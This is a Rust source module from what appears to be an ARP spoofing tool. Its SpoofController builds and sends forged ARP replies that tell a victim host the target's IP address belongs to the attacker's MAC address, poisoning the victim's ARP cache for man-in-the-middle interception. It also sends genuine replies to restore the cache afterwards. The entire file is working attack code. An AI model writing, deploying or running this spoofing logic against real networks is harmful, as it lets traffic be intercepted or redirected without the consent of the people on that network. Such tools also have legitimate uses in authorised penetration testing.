//! Forged and genuine ARP replies for a session

use arpspoof_core::{AttackSession, FrameTransport, LocalIdentity, Result, SessionStatsCounters};
use arpspoof_packet::ArpFrame;
use std::sync::Arc;
use std::time::Duration;
use tokio::time::sleep;
use tracing::{debug, info, warn};

/// Gap between consecutive restore replies
const RESTORE_SPACING: Duration = Duration::from_millis(100);

#[derive(Clone)]
pub struct SpoofController {
    transport: Arc<dyn FrameTransport>,
    local: LocalIdentity,
    restore_count: u32,
}

impl SpoofController {
    pub fn new(transport: Arc<dyn FrameTransport>, local: LocalIdentity, restore_count: u32) -> Self {
        Self {
            transport,
            local,
            restore_count,
        }
    }

    /// Reply telling the sender that the target's address is ours
    pub fn forged_reply(&self, session: &AttackSession) -> ArpFrame {
        ArpFrame::reply(
            self.local.mac,
            session.sender_mac,
            self.local.mac,
            session.target_ip,
            session.sender_mac,
            session.sender_ip,
        )
    }

    /// Reply binding the target's address back to its real hardware address
    pub fn restore_reply(&self, session: &AttackSession) -> ArpFrame {
        ArpFrame::reply(
            session.target_mac,
            session.sender_mac,
            session.target_mac,
            session.target_ip,
            session.sender_mac,
            session.sender_ip,
        )
    }

    /// Send one forged reply to the sender
    pub async fn spoof(&self, session: &AttackSession, stats: &SessionStatsCounters) -> Result<()> {
        let frame = self.forged_reply(session).encode();

        match self.transport.send(&frame).await {
            Ok(()) => {
                stats.record_spoof();
                debug!(
                    session = %session.id,
                    sender = %session.sender_ip,
                    impersonated = %session.target_ip,
                    "Sent forged ARP reply"
                );
                Ok(())
            }
            Err(e) => {
                stats.record_send_error();
                Err(e)
            }
        }
    }

    /// Heal the sender's cache with genuine replies.
    ///
    /// Every reply is attempted; the last failure, if any, is returned.
    pub async fn restore(&self, session: &AttackSession, stats: &SessionStatsCounters) -> Result<()> {
        let frame = self.restore_reply(session).encode();
        let mut outcome = Ok(());

        for i in 0..self.restore_count {
            if i > 0 {
                sleep(RESTORE_SPACING).await;
            }

            if let Err(e) = self.transport.send(&frame).await {
                stats.record_send_error();
                warn!(session = %session.id, error = %e, "Failed to send restore reply");
                outcome = Err(e);
            }
        }

        info!(
            session = %session.id,
            sender = %session.sender_ip,
            impersonated = %session.target_ip,
            target_mac = %session.target_mac,
            "Restored ARP entry"
        );
        outcome
    }
}
